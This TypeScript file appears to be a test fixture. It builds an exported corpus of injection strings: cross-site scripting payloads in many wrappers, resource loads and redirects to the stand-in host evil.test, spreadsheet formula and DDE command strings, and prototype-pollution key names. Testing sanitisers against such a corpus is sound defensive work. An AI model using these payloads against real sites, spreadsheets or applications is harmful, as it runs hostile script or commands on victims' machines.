/** Scripts and what runs them: a mark of each is left in `window.attacked`, or a dialog, or a request to evil.test. */
const actions = [
  "alert(1)",
  "window.attacked=1",
  "fetch('http://evil.test/')",
  "location='http://evil.test/'",
  "document.title='attacked'",
];

/** Ways to make markup, an attribute, an address, a style or a template out of a text. */
const ways: readonly ((action: string) => string)[] = [
  (a) => `<script>${a}</script>`,
  (a) => `<ScRiPt >${a}</sCrIpT>`,
  (a) => `<img src=x onerror=${a}>`,
  (a) => `<img src="x" onerror="${a}">`,
  (a) => `"><img src=x onerror=${a}>`,
  (a) => `'><svg onload=${a}>`,
  (a) => `<svg><script>${a}</script></svg>`,
  (a) => `<svg/onload=${a}>`,
  (a) => `<body onload=${a}>`,
  (a) => `<iframe src="javascript:${a}"></iframe>`,
  (a) => `<iframe srcdoc="<script>${a}</script>">`,
  (a) => `<a href="javascript:${a}">x</a>`,
  (a) => `javascript:${a}`,
  (a) => `JaVaScRiPt:${a}`,
  (a) => `data:text/html,<script>${a}</script>`,
  (a) => `<object data="javascript:${a}">`,
  (a) => `<embed src="javascript:${a}">`,
  (a) => `<input autofocus onfocus=${a}>`,
  (a) => `<details open ontoggle=${a}>`,
  (a) => `<video><source onerror=${a}></video>`,
  (a) => `<audio src=x onerror=${a}>`,
  (a) => `<marquee onstart=${a}>`,
  (a) => `<style onload=${a}></style>`,
  (a) => `<math><mtext><img src=x onerror=${a}></mtext></math>`,
  (a) => `</title><script>${a}</script>`,
  (a) => `</textarea><script>${a}</script>`,
  (a) => `</script><script>${a}</script>`,
  (a) => `--><script>${a}</script>`,
  (a) => `]]><script>${a}</script>`,
  (a) => `" onmouseover="${a}" x="`,
  (a) => `' onfocus='${a}' autofocus='`,
  (a) => `&lt;script&gt;${a}&lt;/script&gt;`,
  (a) => `{{constructor.constructor("${a}")()}}`,
  (a) => `\${${a}}`,
  (a) => `\u202e<script>${a}</script>`,
  (a) => `<img src=x\u0000 onerror=${a}>`,
];

/** Addresses that a page would fetch if it took a text for markup or a style. */
const fetched = [
  "<img src=http://evil.test/a.png>",
  "<link rel=stylesheet href=http://evil.test/a.css>",
  "<link rel=prefetch href=http://evil.test/>",
  "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
  "<base href=http://evil.test/>",
  "<form action=http://evil.test/><button autofocus>x",
  "<style>@import 'http://evil.test/a.css';</style>",
  "<div style=\"background:url('http://evil.test/a.png')\">",
  "url(http://evil.test/a.png)",
  "http://evil.test/",
  "//evil.test/",
  "![x](http://evil.test/a.png)",
];

/** Formulas of spreadsheets, alone and behind what a spreadsheet skips. */
export const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/","x")',
  "\t=1+1",
  "\r=1+1",
];

const names = ["__proto__", "constructor", "toString", "hasOwnProperty", "\u0000", "\u202eabc", "a\u200bb", "\ufeffx"];

/** Texts that have done harm where a program took them for more than texts; no two equal. */
export const attacks: readonly string[] = [
  ...ways.flatMap((way) => actions.map(way)),
  ...fetched,
  ...formulas,
  ...names,
];
